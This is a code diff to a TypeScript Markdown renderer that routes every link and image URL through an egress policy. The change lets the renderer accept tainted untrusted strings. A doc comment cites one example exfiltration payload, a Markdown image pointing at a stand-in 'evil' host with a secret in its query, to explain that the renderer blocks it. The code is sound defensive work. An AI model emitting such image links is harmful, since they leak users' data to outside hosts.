@@ -1,4 +1,5 @@
 // renderMarkdown: Markdown to HTML with raw HTML off and every link and image URL through the egress policy.
+import { heldValue, isUntrusted, type Untrusted } from '../../src/taint/untrusted.js';
 import type { Finding } from '../../src/vocabulary/finding.js';
 import { allowedImagesFor, enforceEgress, type EgressRuleContext } from './egress-rule.js';
 import { createLinkGuard } from './link-guard.js';
@@ -27,12 +28,16 @@ const engines = new WeakMap<ResolvedMarkdownOptions['policy'], Map<string, Engin
  * destination with a query or a fragment is blocked, since a click would carry them to a host nobody chose. A
  * blocked destination leaves its Markdown as literal text (so `![](https://evil/?q=SECRET)` shows as text and
  * neither loads nor links); a relative or empty destination is blocked too, since it would resolve against
- * the page. Kept links get `rel="noopener noreferrer nofollow ugc"`. Images follow the `images` mode. Never
- * throws on content.
+ * the page. Kept links get `rel="noopener noreferrer nofollow ugc"`. Images follow the `images` mode. Takes
+ * tool prose as it comes, an `Untrusted<string>` (no reveal needed). Never throws on content.
  */
-export function renderMarkdown(source: string, options: MarkdownOptions): MarkdownRendering {
-  if (typeof (source as unknown) !== 'string') throw new TypeError('renderMarkdown takes a string.');
-  return engineFor(resolveMarkdownOptions(options)).render(source);
+export function renderMarkdown(
+  source: string | Untrusted<string>,
+  options: MarkdownOptions,
+): MarkdownRendering {
+  const text: unknown = isUntrusted(source) ? heldValue(source) : source;
+  if (typeof text !== 'string') throw new TypeError('renderMarkdown takes a string or an untrusted string.');
+  return engineFor(resolveMarkdownOptions(options)).render(text);
 }
 
 function engineFor(options: ResolvedMarkdownOptions): Engine {
